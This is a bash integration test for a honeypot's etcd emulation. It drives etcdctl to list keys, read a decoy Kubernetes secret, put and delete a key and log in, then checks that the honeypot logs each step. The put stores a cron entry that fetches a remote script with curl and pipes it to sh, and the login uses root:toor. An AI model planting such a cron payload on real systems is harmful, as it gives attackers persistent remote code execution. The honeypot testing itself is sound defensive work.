#!/usr/bin/env bash
# etcdctl 3.4 (Debian's etcd-client) against the etcd emulation: gRPC over HTTP/2 (libnghttp2)
# on the same port as the JSON gateway and the v2 keys API. Lists the store, reads a secret,
# puts a key and reads it back, deletes it, authenticates, asks for the status. Asserts what
# etcdctl printed and the events of each step.
set -euo pipefail
. "$(dirname "$0")/honeypot_lib.bash"
need etcdctl "apt-get install etcd-client"
need jq "apt-get install jq"
has() { grep "$@" >/dev/null; }

W=$(hp_workdir honeypot_etcd)
trap 'kill "${HP_PID:-0}" 2>/dev/null || true' EXIT
hp_start "$W" -- --etcd 0 --flush-ms 20
E=$(hp_port etcd)
export ETCDCTL_API=3
ec() { timeout 20 etcdctl --endpoints="127.0.0.1:$E" "$@"; }

keys=$(ec get / --prefix --keys-only | grep -v '^$') || fail "get --prefix"
echo "$keys" | has -x /registry/secrets/default/db-credentials || fail "keys: $keys"
ec get /registry/secrets/default/db-credentials --print-value-only | has '"password"' || fail "get secret"
[ "$(ec put /registry/cron/x '* * * * * root curl -s http://203.0.113.9/e | sh')" = OK ] || fail "put"
[ "$(ec get /registry/cron/x --print-value-only)" = '* * * * * root curl -s http://203.0.113.9/e | sh' ] || fail "put not visible to get"
[ "$(ec del /registry/cron/x)" = 1 ] || fail "del"
[ -z "$(ec get /registry/cron/x)" ] || fail "deleted key still there"
ec endpoint status | has '3.4.13' || fail "status"
ec --user root:toor get /x >/dev/null || fail "get with --user"
# curl still gets the HTTP/1 APIs on the same port
curl -sf "http://127.0.0.1:$E/version" | jq -e '.etcdserver == "3.4.13"' >/dev/null || fail "HTTP/1 /version"
hp_stop

[ "$(hp_count '.eventid=="etcd.kv.range" and .request.key=="/" and .request.range_end=="0"')" = 1 ] || fail "range event"
[ "$(hp_count '.eventid=="etcd.kv.put" and .request.key=="/registry/cron/x" and ((.request.value // "")|test("203.0.113.9")) and (.payload_sha256|length)==64')" = 1 ] || fail "put event"
[ "$(hp_count '.eventid=="etcd.kv.delete" and .request.key=="/registry/cron/x"')" = 1 ] || fail "delete event"
[ "$(hp_count '.eventid=="etcd.login" and .request.username=="root" and .request.password=="toor"')" = 1 ] || fail "auth event"
echo "ok: etcdctl $(hp_count '.service=="etcd" and (.eventid|startswith("session.")|not)') steps logged"
